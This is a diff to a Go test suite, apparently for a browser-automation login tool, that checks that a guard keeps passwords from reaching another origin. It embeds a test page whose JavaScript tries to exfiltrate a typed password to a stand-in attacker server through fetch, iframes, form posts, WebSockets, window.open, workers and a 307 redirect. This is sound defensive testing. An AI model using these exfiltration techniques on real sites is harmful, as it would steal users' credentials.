@@ -64,17 +64,6 @@ var leaks = map[string]string{
 // nobody is told: nothing leaves, and the run goes on.
 var quiet = map[string]bool{"a WebSocket": true, "a worker's WebSocket": true}
 
-// ownTargets reports whether a leak goes by way of a frame, a window, a worker or a
-// socket, where a whole browser differs from a headless shell.
-func ownTargets(kind string) bool {
-	for _, way := range []string{"frame", "window", "worker", "WebSocket", "307", "fetch as typed"} {
-		if strings.Contains(kind, way) {
-			return true
-		}
-	}
-	return false
-}
-
 const leakFields = `<label>Username <input name="u"></label><label>Password <input type="password" name="p"></label><button>Log in</button>`
 
 func leaky(kind, to string) http.Handler {
@@ -102,41 +91,115 @@ func leaky(kind, to string) http.Handler {
 // However a page tries to carry off a password, the other origin does not get it in
 // any encoding, and where the attempt is seen the run ends and names the origin.
 func TestNothingLeaves(t *testing.T) {
-	for _, browser := range []string{"", "chromium"} {
-		if browser != "" && testing.Short() {
-			continue
-		}
-		for kind := range leaks {
-			if browser != "" && !ownTargets(kind) {
-				continue
+	for kind := range leaks {
+		t.Run(kind, func(t *testing.T) {
+			t.Parallel()
+			e, caught := evil(t)
+			to := other(e)
+			s := serve(t, leaky(kind, to))
+			d := open(t, Options{Guard: allowing(s.URL)})
+			p := see(t, d, s.URL)
+			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
+			defer cancel()
+			_, err := d.Submit(ctx, p, fill(t, p))
+			var all login.Secrets
+			all.AddInputs(fill(t, p).Inputs)
+			if got := caught.all(); all.In(got) {
+				t.Fatalf("the password arrived:\n%s", got)
 			}
-			t.Run(kind+" "+browser, func(t *testing.T) {
-				t.Parallel()
-				e, caught := evil(t)
-				to := other(e)
-				s := serve(t, leaky(kind, to))
-				d := open(t, Options{Path: browser, Guard: allowing(s.URL)})
-				p := see(t, d, s.URL)
-				ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
-				defer cancel()
-				_, err := d.Submit(ctx, p, fill(t, p))
-				var all login.Secrets
-				all.AddInputs(fill(t, p).Inputs)
-				if got := caught.all(); all.In(got) {
-					t.Fatalf("the password arrived:\n%s", got)
-				}
-				if quiet[kind] {
-					return
-				}
-				stop := stopOf(err)
-				if stop == nil || stop.Diagnosis.Code != login.UnexpectedOrigin || !strings.Contains(stop.Diagnosis.Detail, strings.TrimPrefix(to, "http")) {
-					t.Errorf("the run did not end with the origin's name: %v", err)
-					if stop != nil {
-						t.Log(stop.Diagnosis)
-					}
-				}
-			})
+			if !quiet[kind] {
+				wantHeld(t, err, to)
+			}
+		})
+	}
+}
+
+// wantHeld fails a test unless a run ended because of an origin, and names it.
+func wantHeld(t *testing.T, err error, to string) {
+	t.Helper()
+	stop := stopOf(err)
+	if stop == nil || stop.Diagnosis.Code != login.UnexpectedOrigin || !strings.Contains(stop.Diagnosis.Detail, strings.TrimPrefix(to, "http")) {
+		t.Errorf("the run did not end with the origin's name: %v", err)
+		if stop != nil {
+			t.Log(stop.Diagnosis)
 		}
+	}
+}
+
+// everyWay is a page that tries all ways at once that have a part of the browser to
+// themselves, where a whole browser differs from a headless shell. It tells its own server
+// what was tried, and so do its workers.
+const everyWay = `<!doctype html><title>Sign in</title><h1>Sign in</h1><iframe name="n"></iframe><iframe id="b"></iframe>
+<form method="post" action="EVIL/form" target="n" id="g"><input type="hidden" name="h"></form><form id="f">FIELDS</form><script>
+const pw = () => document.querySelector("[name=p]").value, tried = [];
+const w = new Worker("/worker.js"), shared = new SharedWorker("/shared.js");
+const ready = navigator.serviceWorker.register("/service.js").then(() => navigator.serviceWorker.ready);
+addEventListener("keyup", () => fetch("EVIL/f?" + encodeURIComponent(pw()), {mode: "no-cors"}).catch(() => 0));
+f.onsubmit = event => {
+  event.preventDefault();
+  const ways = {
+    worker: () => w.postMessage(pw()), shared: () => shared.port.postMessage(pw()), service: async () => (await ready).active.postMessage(pw()),
+    frame: () => { const i = document.createElement("iframe"); i.src = "EVIL/i?p=" + encodeURIComponent(pw()); document.body.append(i) },
+    framed: () => { g.h.value = pw(); g.submit() },
+    socket: () => { new WebSocket("EVIL/s?p=".replace("http", "ws") + encodeURIComponent(pw())) },
+    unhooked: () => { new (b.contentWindow.WebSocket)("EVIL/s".replace("http", "ws")).onopen = e => e.target.send(pw()) },
+    window: () => { open("EVIL/?p=" + encodeURIComponent(pw())) },
+    body: () => fetch("/redirect307", {method: "POST", body: pw()}).catch(() => 0),
+  };
+  Promise.all(Object.entries(ways).map(async ([name, way]) => { try { await way() } catch {} tried.push(name) })).then(() => fetch("/tried?" + tried));
+};
+</script>`
+
+// In a whole browser none of the ways works either that have a part of it to themselves.
+func TestNothingLeavesAWholeBrowser(t *testing.T) {
+	if testing.Short() {
+		t.Skip("a whole browser takes its time")
+	}
+	t.Parallel()
+	e, caught := evil(t)
+	to := other(e)
+	tried := make(chan string, 10)
+	worker := func(name, takes string) string {
+		return takes + `{let s;try{s=new WebSocket("` + to + `/w".replace("http","ws"));s.onopen=()=>s.send(e.data)}catch{}
+fetch("` + to + `/w",{method:"POST",mode:"no-cors",body:e.data}).catch(()=>0).then(()=>fetch("/tried?` + name + `"))}`
+	}
+	scripts := map[string]string{
+		"/worker.js":  worker("worker", `onmessage=e=>`),
+		"/shared.js":  worker("shared", `onconnect=c=>c.ports[0].onmessage=e=>`),
+		"/service.js": worker("service", `onmessage=e=>`),
+	}
+	s := serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch script := scripts[r.URL.Path]; {
+		case r.URL.Path == "/tried":
+			tried <- r.URL.RawQuery
+		case r.URL.Path == "/redirect307":
+			http.Redirect(w, r, to+"/r", http.StatusTemporaryRedirect)
+		case script != "":
+			w.Header().Set("Content-Type", "text/javascript")
+			_, _ = io.WriteString(w, script)
+		default:
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			_, _ = io.WriteString(w, strings.NewReplacer("EVIL", to, "FIELDS", leakFields).Replace(everyWay))
+		}
+	}))
+	d := open(t, Options{Path: "chromium", Guard: allowing(s.URL)})
+	p := see(t, d, s.URL)
+	in := fill(t, p)
+	_, err := d.Submit(within(t), p, in)
+	wantHeld(t, err, to)
+	var tries []string
+	for ctx := within(t); len(tries) < 4; {
+		select {
+		case name := <-tried:
+			tries = append(tries, name)
+		case <-ctx.Done():
+			t.Fatalf("only these were tried: %q", tries)
+		}
+	}
+	var all login.Secrets
+	all.AddInputs(in.Inputs)
+	if got := caught.all(); all.In(got) {
+		t.Fatalf("the password arrived:\n%s", got)
 	}
 }
 
